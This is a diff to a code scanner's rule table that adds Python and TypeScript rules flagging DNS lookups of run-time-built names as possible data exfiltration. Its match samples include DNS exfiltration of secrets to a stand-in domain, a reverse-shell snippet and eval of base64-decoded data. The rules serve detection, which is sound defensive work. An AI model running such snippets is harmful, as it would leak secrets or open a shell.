@@ -266,6 +266,10 @@ rules! {
     PY_SOCKET = { "py.socket", "network", Review, locked: false, Python,
         "Python opens an outbound network connection.",
         match: ["import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 80))"], no_match: ["import socket\nsocket.gethostname()"] }
+    PY_DNS_DYNAMIC = { "py.dns_dynamic", "exfiltration", Review, locked: false, Python,
+        "A DNS name built at run time is looked up: the name itself carries data out, even where HTTP is blocked (socket.gethostbyname/getaddrinfo, dnspython's resolve).",
+        match: ["import socket\nsocket.gethostbyname(data + '.x.example')", "import dns.resolver\ndns.resolver.resolve(f'{key}.x.example', 'TXT')"],
+        no_match: ["import socket\nsocket.gethostbyname('pypi.org')", "import socket\nsocket.getaddrinfo(host, 443)"] }
     PY_REVERSE_SHELL = { "py.reverse_shell", "reverse-shell", Deny, locked: false, Python,
         "A socket is wired to a shell's stdin/stdout.",
         match: ["import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4242))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')"], no_match: [] }
@@ -303,6 +307,10 @@ rules! {
     TS_EVAL = { "ts.eval", "eval", Deny, locked: false, Typescript,
         "eval, `new Function`, `Function()` or string timers run code that is not a literal.",
         match: ["eval(a);", "new Function('return 1')()", "setTimeout('alert(1)', 10)"], no_match: ["eval('1+1')", "setTimeout(() => 1, 10)"] }
+    TS_DNS_DYNAMIC = { "ts.dns_dynamic", "exfiltration", Review, locked: false, Typescript,
+        "A DNS name built at run time is looked up: the name itself carries data out, even where HTTP is blocked (dns.lookup/resolve*, dns.promises, Deno.resolveDns).",
+        match: ["dns.resolve(`${secret}.x.example`, () => {});", "await Deno.resolveDns(data + '.x.example', 'A');"],
+        no_match: ["dns.lookup('registry.npmjs.org', cb);", "dns.lookup(host, cb);"] }
     TS_DECODE_EXEC = { "ts.decode_exec", "decode-exec", Deny, locked: true, Typescript,
         "Decoded data (atob, Buffer.from base64) is evaluated.",
         match: ["eval(Buffer.from('aWQ=', 'base64').toString())", "eval(atob(x))"], no_match: ["atob(x)"] }
